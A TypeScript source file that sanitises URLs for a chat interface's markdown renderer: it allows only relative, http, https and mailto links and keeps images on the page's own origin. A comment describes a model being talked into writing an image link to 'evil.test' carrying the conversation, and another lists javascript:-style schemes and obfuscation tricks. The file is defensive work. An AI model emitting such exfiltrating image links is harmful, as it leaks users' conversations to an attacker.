/** Schemes a link or image in a message may use; anything else (javascript:, data:, vbscript:…) is dropped. */
const SAFE_SCHEME = /^(?:https?|mailto)$/i;

/**
 * react-markdown `urlTransform`: keeps relative URLs and http, https and mailto; returns "" for any
 * other scheme. The scheme test is exact, so tricks like `java\tscript:` or ` javascript:` fail it.
 */
export function safeUrl(url: string): string {
  const colon = url.indexOf(":");
  if (colon === -1) return url;
  const firstDelimiter = Math.min(
    ...["/", "?", "#"].map((char) => url.indexOf(char)).filter((index) => index !== -1),
    Infinity,
  );
  // A colon after the path, query or fragment starts is not a scheme separator.
  if (colon > firstDelimiter) return url;
  return SAFE_SCHEME.test(url.slice(0, colon)) ? url : "";
}

/**
 * Whether an image URL stays on the page's own origin. An image from anywhere else would be fetched
 * as soon as the message shows — a model can be talked into writing `![](https://evil.test/?q=<the
 * conversation>)` — so such images are offered as links instead (see markdown-elements.tsx).
 */
export function isSameOrigin(url: string, pageUrl: string): boolean {
  try {
    return new URL(url, pageUrl).origin === new URL(pageUrl).origin;
  } catch {
    return false;
  }
}
